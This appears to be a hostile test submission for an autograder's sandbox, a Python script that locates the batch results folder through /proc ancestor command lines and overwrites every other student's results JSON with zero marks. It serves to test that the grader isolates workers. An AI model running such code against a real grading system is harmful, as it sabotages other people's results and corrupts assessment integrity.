# Hostile: finds the batch's --out folder in an ancestor's command line and, for 3 s, rewrites every other student's results JSON there to zero marks.
"""Honest part: none (it raises at the end).

The defence: the worker cannot see the results folder (nor any ancestor's command line), and
results are written only by the grader.
"""
import json
import os
import time


def _parent(pid):
    with open(f"/proc/{pid}/stat", "rb") as handle:
        return int(handle.read().rsplit(b")", 1)[1].split()[1])


def _out_folder():
    pid = os.getpid()
    for _ in range(10):
        try:
            pid = _parent(pid)
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                args = handle.read().decode(errors="replace").split("\0")
        except (OSError, ValueError, IndexError):
            return None
        if "--out" in args:
            return os.path.join(os.readlink(f"/proc/{pid}/cwd"), args[args.index("--out") + 1])
        if pid <= 1:
            return None
    return None


out = _out_folder()
own = os.path.splitext(os.path.basename(__file__))[0] + ".json"
rewritten = set()
deadline = time.monotonic() + 3.0
while out is not None and time.monotonic() < deadline:
    for name in os.listdir(out):
        if not name.endswith(".json") or name == own:
            continue
        path = os.path.join(out, name)
        try:
            with open(path) as handle:
                result = json.load(handle)
            if result.get("score") == 0:
                continue
            result["score"] = 0.0
            for test in result.get("tests", []):
                test["score"], test["status"] = 0.0, "failed"
            with open(path, "w") as handle:
                json.dump(result, handle)
            rewritten.add(name)
        except (OSError, ValueError, AttributeError):
            pass
    time.sleep(0.05)
raise RuntimeError(f"hostile: results folder {out!r}; rewrote {sorted(rewritten)}")
